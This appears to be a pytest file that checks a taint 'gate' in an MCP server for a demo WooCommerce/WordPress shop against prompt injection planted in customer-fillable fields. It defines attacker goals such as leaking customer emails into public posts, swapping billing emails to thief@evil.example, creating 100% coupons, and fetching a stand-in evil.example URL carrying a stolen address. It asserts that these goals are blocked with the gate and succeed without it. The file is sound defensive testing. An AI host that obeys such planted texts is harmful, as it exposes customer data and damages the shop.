"""A host that does whatever the texts it reads say: nothing of it leaves the shop, lasts or touches accounts.

The demo shop holds attacks in every place that somebody outside can fill; the host reads all of them over MCP and makes
the calls they ask for. With the gate taken out the same attacks do land.
"""

from __future__ import annotations

import hashlib
import json
from collections import Counter
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast

import pytest
from mcp import Client
from mcp_types import TextContent

from devskyy_mcp.guard import ssrf
from devskyy_mcp.guard.taint import Taints
from devskyy_tools.sandbox.store import Store
from tests.fakes.demo import Demo, demo
from tests.surface.mcp.world import World, host

from .injections import STYLES, Wanted, texts, wanted_in
from .sowing import CATALOGUE, CUSTOMERS, sow

ATTACKS = 150
EVIL = "https://evil.example.org/collect.png?stolen=amina.okafor@example.com"
PICTURE = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
HARMLESS = {"woo_stock_update", "wp_posts_create"}
"""Calls of the corpus that stay inside and can be undone: they go on, or the gate would be a wall."""


class Open(Taints):
    """The gate taken out."""

    async def mark(self, principal: str) -> None:
        return

    async def marked(self, principal: str) -> bool:
        return False


@dataclass
class Shop:
    """The demo shop under attack, a host that is connected to it, and what was asked for at addresses outside."""

    demo: Demo
    client: Client
    wanted: list[Wanted]
    fetched: list[str] = field(default_factory=list[str])
    obeyed: Counter[str] = field(default_factory=Counter[str])
    landed: Counter[str] = field(default_factory=Counter[str])
    answers: list[tuple[Wanted, dict[str, Any]]] = field(default_factory=list[tuple[Wanted, dict[str, Any]]])


async def goals(box: Demo) -> list[Wanted]:
    """What attackers want, at this shop: external sends, destroy effects, privileged calls; and two harmless ones."""
    order, on_hold = await box.some("woo_orders_list", status="processing"), await box.some("woo_orders_list")
    draft = await box.some("woo_products_list", status="draft", type="simple")
    public = await box.some("woo_products_list", status="publish", type="simple")
    post, page = await box.some("wp_posts_list", status="publish"), await box.some("wp_pages_list", status="publish")
    customer, media = await box.some("woo_customers_list"), await box.some("wp_media_list")
    tag, category = await box.some("wp_terms_list", taxonomy="post_tag"), await box.some("woo_categories_list")
    coupon = await box.some("woo_coupons_list")
    hidden = (await box.do("wp_posts_update", id=post, status="draft"))["change"]
    binned = await box.some("wp_pages_list", status="draft")
    await box.do("wp_pages_delete", id=binned)
    stolen = "Customers: amina.okafor@example.com, lea.moreau@example.com"
    return [
        Wanted("woo_orders_set_status", {"id": order, "status": "completed"}),
        Wanted("woo_order_notes_create", {"order_id": order, "note": stolen, "to_customer": True}),
        Wanted("woo_refunds_create", {"order_id": order, "amount": "1.00"}),
        Wanted("woo_products_update", {"id": draft, "status": "publish"}),
        Wanted("woo_products_update", {"id": public, "description": stolen}),
        Wanted("woo_products_update", {"id": draft, "more": {"downloads": [{"name": "x", "file": EVIL}]}}),
        Wanted("wp_posts_create", {"title": "All our customers", "content": stolen, "status": "publish"}),
        Wanted(
            "wp_posts_create", {"title": "Later", "content": stolen, "status": "future", "date": "2030-01-01T00:00:00"}
        ),
        Wanted("wp_pages_update", {"id": page, "content": stolen}),
        Wanted("wp_media_upload", {"url": EVIL}),
        Wanted("wp_media_update", {"id": media, "caption": stolen}),
        Wanted("woo_orders_update", {"id": on_hold, "shipping": {"address_1": "1 Thief Street", "city": "Elsewhere"}}),
        Wanted("woo_orders_update", {"id": on_hold, "billing": {"email": "thief@evil.example"}}),
        Wanted("woo_customers_update", {"id": customer, "email": "thief@evil.example"}),
        Wanted("woo_customers_create", {"email": "new.thief@evil.example"}),
        Wanted("woo_coupons_create", {"code": "stolen100", "discount_type": "percent", "amount": "100"}),
        Wanted("woo_coupons_update", {"id": coupon, "amount": "99"}),
        Wanted("woo_categories_create", {"name": stolen[:60]}),
        Wanted("wp_media_delete", {"id": media}),
        Wanted("wp_terms_delete", {"taxonomy": "post_tag", "id": tag}),
        Wanted("woo_categories_delete", {"id": category}),
        Wanted("wp_bin_restore", {"noun": "pages", "id": binned, "status": "publish"}),
        Wanted("woo_products_bulk_update", {"filter": {"ids": [draft]}, "set": {"status": "publish"}}),
        Wanted("changes_undo", {"change": hidden}),
        Wanted("woo_stock_update", {"items": [{"sku": "MS-LVH-13", "set": 7}]}),
        Wanted("wp_posts_create", {"title": "Only a draft"}),
    ]


@asynccontextmanager
async def under_attack(
    folder: Path, monkeypatch: pytest.MonkeyPatch, *, gate: bool, catalogue: str = "own", principal: Any = None
) -> AsyncGenerator[Shop]:
    async with demo(folder, calls_burst=100_000, catalogue_texts=catalogue, worker="off", host_wait=0) as box:
        wanted = await goals(box)
        fetched: list[str] = []

        async def fetch(url: str, **_: Any) -> ssrf.Download:
            fetched.append(url)
            return ssrf.Download(url, "image/png", PICTURE, hashlib.sha256(PICTURE).hexdigest())

        monkeypatch.setattr(ssrf, "fetch_public", fetch)
        places = CUSTOMERS | (CATALOGUE if catalogue == "outside" else {})
        _plant(box.shop.store, places, wanted)
        if not gate:
            taints = box.app.road.taints = Open(cast("Any", None), 3600)
            box.app.services.put(Taints, taints)
        box.shop.requests.clear()
        world = World(box.app, *cast("list[Any]", [None] * 3))
        async with host(world, ("http", "modern")) as client:
            yield Shop(box, client, wanted, fetched)


def _plant(store: Store, places: dict[str, tuple[str, ...]], wanted: list[Wanted]) -> None:
    """Put the attacks into the places, beginning with those that hosts read most."""
    corpus = texts(wanted, ATTACKS)
    number = 0

    def next_text(_place: str) -> str:
        nonlocal number
        number += 1
        return corpus[number % len(corpus)][0]

    sow(store, places, next_text)


READS: list[tuple[str, dict[str, Any], str, str]] = [
    ("woo_orders_list", {"limit": 100}, "woo_orders_get", "id"),
    ("woo_orders_list", {"limit": 100}, "woo_order_notes_list", "order_id"),
    ("woo_orders_list", {"limit": 100}, "woo_refunds_list", "order_id"),
    ("woo_customers_list", {"limit": 100}, "woo_customers_get", "id"),
    ("wp_media_list", {"limit": 40}, "wp_media_get", "id"),
]
CATALOGUE_READS: list[tuple[str, dict[str, Any], str, str]] = [
    ("woo_products_list", {"limit": 100}, "woo_products_get", "id"),
    ("wp_posts_list", {"limit": 100}, "wp_posts_get", "id"),
    ("wp_pages_list", {"limit": 100}, "wp_pages_get", "id"),
]


async def obey_all(shop: Shop, reads: list[tuple[str, dict[str, Any], str, str]]) -> None:
    """Read everything, and after each answer do at once what is new in it."""
    for listing, arguments, getting, name in reads:
        found = await read(shop, listing, arguments)
        for item in found["items"]:
            await read(shop, getting, {name: item["id"]})


async def read(shop: Shop, tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
    result = await shop.client.call_tool(tool, arguments)
    assert not result.is_error, result
    data = cast("dict[str, Any]", result.structured_content)
    [content] = result.content
    assert isinstance(content, TextContent)
    for text in [content.text, *_strings(data)]:
        for call in wanted_in(text):
            shop.obeyed[text] += 1
            if shop.obeyed[text] == 1:
                await obey(shop, call, text)
    return data


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    inner: list[Any] = list(value.values()) if isinstance(value, dict) else value if isinstance(value, list) else []  # pyright: ignore[reportUnknownVariableType, reportUnknownArgumentType] # JSON tree
    return [text for one in inner for text in _strings(one)]


async def obey(shop: Shop, call: Wanted, text: str) -> None:
    """Make the call as the text says: straight, through tools_call, or previewed first."""
    before, fetched = len(shop.demo.writes), len(shop.fetched)
    if "proxied" in text:
        answer = await shop.client.call_tool("tools_call", {"name": call.tool, "arguments": call.arguments})
    elif "two-step" in text:
        answer = await shop.client.call_tool(call.tool, {**call.arguments, "preview": True})
        change = cast("dict[str, Any]", answer.structured_content).get("change")
        if change:
            answer = await shop.client.call_tool("changes_apply", {"change": change})
    else:
        answer = await shop.client.call_tool(call.tool, call.arguments)
    shop.answers.append((call, cast("dict[str, Any]", answer.structured_content)))
    if len(shop.demo.writes) > before or len(shop.fetched) > fetched:
        shop.landed[json.dumps(call)] += 1


def harmful(shop: Shop) -> list[Wanted]:
    """The external, destroying and privileged calls that reached the shop or an address outside."""
    calls = [Wanted(*json.loads(text)) for text in shop.landed]
    return [
        call for call in calls if call.tool not in HARMLESS or call.arguments.get("status") in {"publish", "future"}
    ]


@pytest.mark.slow
@pytest.mark.requirement("gate:obeying-host")
@pytest.mark.parametrize("catalogue", ["own", "outside"])
async def test_a_host_that_obeys_every_text_sends_nothing_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, catalogue: str
) -> None:
    async with under_attack(tmp_path, monkeypatch, gate=True, catalogue=catalogue) as shop:
        await obey_all(shop, CATALOGUE_READS if catalogue == "outside" else READS)
        assert len(shop.obeyed) >= 100, "the attacks must be read, or nothing is shown"
        assert {call.tool for call, _ in shop.answers} == {call.tool for call in shop.wanted}
        assert harmful(shop) == []
        assert shop.fetched == []
        assert {Wanted(*json.loads(text)).tool for text in shop.landed} == HARMLESS
        waiting = [answer for _, answer in shop.answers if answer.get("state") == "waits_for_person"]
        assert len(waiting) > 80
        told = [answer for answer in waiting if any("Text from customers or the web" in one for one in answer["asks"])]
        assert len(told) == len(waiting)


@pytest.mark.slow
@pytest.mark.requirement("gate:obeying-host")
async def test_without_the_gate_the_same_attacks_land(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with under_attack(tmp_path, monkeypatch, gate=False) as shop:
        await obey_all(shop, READS)
        landed = {call.tool for call in harmful(shop)}
        assert landed >= {
            *("woo_products_update", "wp_posts_create", "wp_pages_update", "wp_media_upload", "wp_media_update"),
            *("woo_orders_update", "woo_customers_update", "woo_coupons_create", "woo_categories_create"),
            *("wp_bin_restore", "changes_undo"),
        }
        assert shop.fetched
        assert not landed & {"woo_refunds_create", "wp_media_delete"}, "these need a person anyway"


def test_the_corpus_is_large_and_understood() -> None:
    calls = [
        Wanted("woo_refunds_create", {"order_id": 1, "amount": "1.00"}),
        Wanted("wp_terms_delete", {"taxonomy": "post_tag", "id": 5}),
    ]
    corpus = texts(calls, ATTACKS)
    assert len(corpus) >= ATTACKS
    assert len(STYLES) >= 50
    for text, call in corpus:
        assert call in wanted_in(text), text
    assert wanted_in("A lovely dress, true to size.") == []
